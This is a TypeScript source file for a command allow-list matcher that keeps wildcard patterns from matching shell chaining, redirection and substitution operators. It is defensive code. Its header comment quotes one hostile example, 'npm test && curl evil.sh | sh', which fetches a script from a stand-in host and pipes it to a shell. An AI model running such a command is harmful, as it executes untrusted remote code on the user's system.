/**
 * Matching shell commands against allow-list patterns, so that allowing `npm test*` does not
 * also allow `npm test && curl evil.sh | sh`.
 */
import { type AllowPattern, statelessRegExp } from "./policy.js";

/**
 * Characters that chain, redirect or substitute commands. A `*` in a string pattern never
 * matches them, so a command that uses them only matches a pattern that spells them out.
 */
const WILDCARD = "[^;&|<>$`()\\n\\r]*";

/**
 * Compiles a string command pattern: it must match the whole command (trimmed); `*` matches any
 * run of characters except shell operators (`; & | < > $ \` ( )` and newlines); a space matches
 * any run of spaces and tabs; everything else is literal.
 */
export function compileCommandPattern(pattern: string): RegExp {
  const body = pattern
    .trim()
    .split(/([*]|[ \t]+)/)
    .map((piece) => {
      if (piece === "*") return WILDCARD;
      if (/^[ \t]+$/.test(piece)) return "[ \\t]+";
      return piece.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&");
    })
    .join("");
  return new RegExp(`^${body}$`);
}

/** A predicate telling whether a command matches one of `patterns`. */
export function commandMatcher(patterns: readonly AllowPattern[]): (command: string) => boolean {
  const compiled = patterns.map((p) =>
    typeof p === "string" ? compileCommandPattern(p) : statelessRegExp(p),
  );
  return (command) => {
    const trimmed = command.trim();
    return compiled.some((regex, i) => regex.test(typeof patterns[i] === "string" ? trimmed : command));
  };
}
